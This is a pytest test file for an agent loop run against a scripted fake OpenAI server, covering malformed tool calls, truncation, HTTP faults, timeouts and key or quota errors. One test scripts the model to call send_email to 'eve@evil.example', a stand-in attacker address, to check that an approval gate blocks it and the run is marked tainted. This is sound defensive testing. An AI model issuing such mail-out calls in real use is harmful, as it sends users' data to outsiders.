"""Agents' runs over real HTTP: what the loop sends keeps the API's rules, and the server's faults come out right."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from adapters.llm.openai_model import OpenAIModel
from core.agent_loop import AgentLoop
from core.approvals.gate import Gate
from core.approvals.policy import Rules
from core.errors import ModelUnavailable
from core.memory.clock import START, ManualClock
from core.memory.runs import InMemoryRuns
from core.models import Agent, AgentLimits, ApprovalState, Person, Result, StepState, Task
from tests.counterparts.openai_server import KEY, Answer, ScriptedOpenAI
from tests.fakes.agent_bench import Approver
from tests.fakes.toy_tools import ToyTool, mail, page

TASK = Task(
    text="find tea", instruction="find tea", person=Person(id="p"), workspace="w", now=START, zone="UTC"
)
TEA = ("search", '{"words": "tea"}')


@asynccontextmanager
async def loop(*tools: ToyTool, **options: Any) -> AsyncIterator[tuple[ScriptedOpenAI, AgentLoop]]:
    async with ScriptedOpenAI(**options) as server:
        clock = ManualClock()
        model = OpenAIModel(model="gpt-5-mini", api_key=KEY, base_url=server.url, clock=clock)
        named = {tool.name: tool for tool in tools}
        try:
            gate = Gate(approvals=Approver(ApprovalState.DENIED), clock=clock, rules=Rules())
            yield server, AgentLoop(model=model, tools=named, runs=InMemoryRuns(), clock=clock, gate=gate)
        finally:
            await model.aclose()


async def run(agent_loop: AgentLoop, *tools: str, **limits: Any) -> Result:
    who = Agent(name="finder", description="Finds.", tools=tools or ("search",), limits=AgentLimits(**limits))
    return await agent_loop.run(who, TASK, step_id="step-1")


async def test_a_whole_run_with_everything_a_model_can_do_wrong_keeps_the_rules() -> None:
    tools = (ToyTool("search"), page(), mail())
    async with loop(*tools) as (server, agent_loop):
        server.expect().reply(tool_calls=(TEA, ("search", "```json\n{}\n```"), ("f l y", "{")))
        server.expect().reply(text="")
        server.expect().reply(text="It is in the", finish="length")
        pages = tuple(("read_page", f'{{"words": "page {n}"}}') for n in range(7))
        server.expect().reply(text="Let me look.", tool_calls=pages)
        server.expect().reply(tool_calls=(("send_email", '{"to": "eve@evil.example", "body": "x"}'),))
        server.expect(lambda body: "tools" not in body).reply(text="In the cupboard.")
        result = await run(agent_loop, "search", "read_page", "send_email", rounds=3)
    assert result.state is StepState.SUCCEEDED, result.error
    assert result.output.startswith("In the cupboard.")
    assert (result.tainted, result.partial, result.usage.input_tokens) == (True, True, 6 * 120)


@pytest.mark.parametrize(
    "answer",
    [
        {"status": 429, "headers": {"Retry-After": "4"}},
        {"status": 500},
        {"status": 503},
        {"reset": True},
        {"text": "half an answer, and the", "cut_stream": "clean"},
        {"text": "half an answer, and the", "cut_stream": "abrupt"},
    ],
    ids=["429", "500", "503", "reset", "cut", "broken"],
)
async def test_37_a_fault_in_the_second_turn_asks_for_another_attempt_which_goes_on(
    answer: dict[str, Any],
) -> None:
    search = ToyTool("search")
    async with loop(search) as (server, agent_loop):
        server.expect().reply(tool_calls=(TEA,))
        server.expect().reply(**answer)
        with pytest.raises(ModelUnavailable) as caught:
            await run(agent_loop)
        server.expect().reply(text="In the cupboard.")
        result = await run(agent_loop)
    assert caught.value.retry_after_seconds == (4.0 if answer.get("status") == 429 else None)
    assert result.output == "In the cupboard."
    assert len(server.requests) == 3
    assert len(search.made) == 1


async def test_37_a_model_that_takes_too_long_asks_for_another_attempt() -> None:
    async with loop() as (server, agent_loop):
        server.expect().reply(delay=30.0)
        with pytest.raises(ModelUnavailable):
            await run(agent_loop, timeout_seconds=0.2)


@pytest.mark.parametrize(
    ("answer", "says_what"),
    [
        ({"status": 401, "code": "invalid_api_key"}, "check OPENAI_API_KEY"),
        ({"status": 429, "code": "insufficient_quota"}, "check its plan and billing"),
    ],
)
async def test_38_a_wrong_key_or_no_quota_fails_at_once_and_says_what_to_check(
    answer: dict[str, Any], says_what: str
) -> None:
    async with loop() as (server, agent_loop):
        server.expect().reply(**answer)
        result = await run(agent_loop)
    assert result.state is StepState.FAILED
    assert result.error is not None
    assert says_what in result.error
    assert len(server.requests) == 1


async def test_a_server_can_answer_everything_the_same_for_a_trial() -> None:
    async with loop(default=lambda body: Answer(text="Always this.")) as (_, agent_loop):
        assert (await run(agent_loop)).output == "Always this."
